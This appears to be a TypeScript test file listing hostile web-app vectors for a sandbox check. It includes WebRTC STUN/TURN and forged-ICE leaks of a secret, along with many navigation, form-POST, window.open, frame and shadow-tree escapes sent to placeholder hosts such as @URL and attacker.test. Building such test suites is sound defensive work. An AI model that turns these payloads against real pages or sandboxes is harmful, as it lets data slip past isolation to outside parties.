/** Hostile apps that leave their document, open windows, submit forms, or talk by WebRTC. */
import { markup, script, type Vector } from "./vector.ts";

const LINK_STYLE = 'style="position:fixed;inset:0;font-size:9rem"';
const CANDIDATE = "candidate:1 1 udp 2122260223 @ADDRESS @PORT typ host";

const STUN = `const p=new RTCPeerConnection({iceServers:[{urls:"stun:@HOST"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o));`;
const STUN_NAME = STUN.replace("@HOST", "@NAME:@PORT");
const turn = (more: string): string =>
  `const p=new RTCPeerConnection({iceTransportPolicy:"relay",iceServers:[{urls:"turn:@HOST${more}",username:"@SECRET",credential:"x"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o));`;
/** The far side is made up: the secret is its name, which every check of the connection carries. */
const UFRAG = `(async()=>{const p=new RTCPeerConnection();p.createDataChannel("x");await p.setLocalDescription(await p.createOffer());
const sdp=p.localDescription.sdp.replace(/a=ice-ufrag:.*/g,"a=ice-ufrag:@SECRET").replace(/a=ice-pwd:.*/g,"a=ice-pwd:0123456789012345678901").replace(/a=setup:.*/g,"a=setup:active").replace(/a=candidate.*\\r\\n/g,"");
await p.setRemoteDescription({type:"answer",sdp});await p.addIceCandidate({candidate:"${CANDIDATE}",sdpMLineIndex:0})})();`;
const quoted = (source: string): string => source.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const written = (source: string): string => JSON.stringify(`<script>${source}</script>`).replaceAll("</", "<\\/");
const later = (source: string): string => `setTimeout(()=>{${source}},50)`;

const webRtc: Vector[] = [
  script("WebRTC: STUN to an address", STUN),
  script("WebRTC: STUN to a name", STUN_NAME),
  script("WebRTC: TURN over UDP", turn("")),
  script("WebRTC: TURN over TCP", turn("?transport=tcp")),
  script("WebRTC: made-up far side", UFRAG),
  script("WebRTC: by its old name", `const RTCPeerConnection=window.webkitRTCPeerConnection;${STUN_NAME}`),
  script(
    "WebRTC: after document.open",
    later(`document.open();document.write(${written(STUN_NAME)});document.close()`),
  ),
  script(
    "WebRTC: constructor of an empty frame",
    `const f=document.createElement("iframe");document.body.append(f);const RTCPeerConnection=f.contentWindow.RTCPeerConnection;${STUN_NAME}`,
  ),
  markup("WebRTC: in a frame of srcdoc", `<iframe srcdoc="<script>${quoted(STUN_NAME)}</script>"></iframe>`),
  markup("WebRTC: TURN in a frame of srcdoc", `<iframe srcdoc="<script>${quoted(turn(""))}</script>"></iframe>`),
  markup(
    "WebRTC: made-up far side in a frame of srcdoc",
    `<iframe srcdoc="<script>${quoted(UFRAG)}</script>"></iframe>`,
  ),
  markup(
    "WebRTC: in a closed shadow tree",
    `<div><template shadowrootmode="closed"><iframe srcdoc="<script>${quoted(STUN_NAME)}</script>"></iframe></template></div>`,
  ),
  markup(
    "WebRTC: made-up far side in a closed shadow tree",
    `<div><template shadowrootmode="closed"><iframe srcdoc="<script>${quoted(UFRAG)}</script>"></iframe></template></div>`,
  ),
  script(
    "WebRTC: in a frame of a javascript address",
    `const f=document.createElement("iframe");f.src="javascript:"+${JSON.stringify(STUN_NAME)};document.body.append(f)`,
  ),
  script(
    "WebRTC: in a frame of a blob",
    `const f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob([${written(UFRAG)}],{type:"text/html"}));document.body.append(f)`,
  ),
  markup(
    "WebRTC: in an object of a data address",
    `<object type="text/html" data="data:text/html,<script>${quoted(STUN_NAME).replaceAll("#", "%23")}</script>"></object>`,
  ),
];

const link = (more: string): string => `<a href="@URL" ${more} ${LINK_STYLE}>x</a>`;

const leaving: Vector[] = [
  script("location.href", later(`location.href="@URL"`)),
  script("location.replace", later(`location.replace("@URL")`)),
  script("location.assign", later(`location.assign("@URL")`)),
  script("location before the load is over", `location="@URL"`),
  script("Navigation API", later(`navigation.navigate("@URL")`)),
  script(
    "meta refresh by script",
    `const m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url=@URL";document.head.append(m)`,
  ),
  markup("meta refresh", `<meta http-equiv="refresh" content="0;url=@URL">`),
  script(
    "click on a link by script",
    later(`const a=document.createElement("a");a.href="@URL";document.body.append(a);a.click()`),
  ),
  script(
    "click on a link that is in no document",
    later(`const a=document.createElement("a");a.href="@URL";a.click()`),
  ),
  script(
    "dispatched click on a link",
    later(
      `const a=document.createElement("a");a.href="@URL";document.body.append(a);a.dispatchEvent(new MouseEvent("click"))`,
    ),
  ),
  script(
    "native click of another document",
    later(
      `const f=document.createElement("iframe");f.srcdoc="<a href='@URL'>x</a><script>document.querySelector('a').click()<\\/script>";document.body.append(f)`,
    ),
  ),
  markup(
    "SVG link by script",
    `<svg><a href="@URL"><text y="20">x</text></a></svg><script>setTimeout(()=>document.querySelector("svg a").dispatchEvent(new MouseEvent("click",{bubbles:true,cancelable:true})),50)</script>`,
  ),
  script(
    "link with download",
    later(`const a=document.createElement("a");a.href="@URL";a.download="x";document.body.append(a);a.click()`),
  ),
  script("to a host name that is the secret", later(`location="http://@NAME:@PORT/"`)),
  script(
    "to a data address that asks",
    later(`location="data:text/html,<script>fetch('@URL');location='@URL'<\\/script>"`),
  ),
  script(
    "to a blob that asks",
    later(
      `location=URL.createObjectURL(new Blob(["<script>fetch('@URL');location='@URL'<\\/script>"],{type:"text/html"}))`,
    ),
  ),
  script("to a javascript address", later(`location="javascript:fetch('@URL')"`)),
  script("top.location", later(`top.location="@URL"`), "click"),
  script("parent.location", later(`parent.location="@URL"`)),
  script(
    "form by GET",
    later(`const f=document.createElement("form");f.action="@URL";document.body.append(f);f.submit()`),
  ),
  script(
    "form by POST",
    later(
      `const f=document.createElement("form");f.method="post";f.action="@URL";f.innerHTML="<input name=a value=@SECRET>";document.body.append(f);f.submit()`,
    ),
  ),
  script(
    "form with requestSubmit",
    later(`const f=document.createElement("form");f.action="@URL";document.body.append(f);f.requestSubmit()`),
  ),
  script(
    "form into the top",
    later(`const f=document.createElement("form");f.action="@URL";f.target="_top";document.body.append(f);f.submit()`),
  ),
  script(
    "form into a new window",
    later(
      `const f=document.createElement("form");f.action="@URL";f.target="_blank";document.body.append(f);f.submit()`,
    ),
  ),
  markup(
    "button of a form into a new window",
    `<form><button formaction="@URL" formtarget="_blank" ${LINK_STYLE}>x</button></form>`,
    "click",
  ),
  script("window.open", later(`window.open("@URL")`)),
  script("window.open in a click", `onclick=()=>window.open("@URL")`, "click"),
  script(
    "empty window in a click, then written into",
    `onclick=()=>{const w=window.open("about:blank");w.document.write("<img src=@URL>")}`,
    "click",
  ),
  markup("link, clicked", link(""), "click"),
  markup("link to the top, clicked", link('target="_top"'), "click"),
  markup("link to a new window, clicked", link('target="_blank"'), "click"),
  markup("link, clicked with the middle button", link(""), "middle click"),
  markup("link, clicked with Control", link(""), "control click"),
  markup(
    "link in a closed shadow tree, clicked with the middle button",
    `<div><template shadowrootmode="closed">${link("")}</template></div>`,
    "middle click",
  ),
  markup(
    "link in a closed shadow tree, clicked with Control",
    `<div><template shadowrootmode="closed">${link("")}</template></div>`,
    "control click",
  ),
  markup(
    "link in a closed shadow tree to a new window, clicked",
    `<div><template shadowrootmode="closed">${link('target="_blank"')}</template></div>`,
    "click",
  ),
  markup(
    "link in a frame of srcdoc, clicked with the middle button",
    `<iframe ${LINK_STYLE} width="2000" height="2000" srcdoc="<a href='@URL' style='position:fixed;inset:0'>x</a>"></iframe>`,
    "middle click",
  ),
  markup(
    "link in a frame of srcdoc, clicked with Control",
    `<iframe ${LINK_STYLE} width="2000" height="2000" srcdoc="<a href='@URL' style='position:fixed;inset:0'>x</a>"></iframe>`,
    "control click",
  ),
  markup("link to a name, hovered and clicked", `<a href="http://@NAME:@PORT/" ${LINK_STYLE}>x</a>`, "click"),
  script("mail program", later(`location="mailto:x@attacker.test?body=@SECRET"`)),
];

/** All of them. */
export const leaveVectors: readonly Vector[] = [...webRtc, ...leaving];
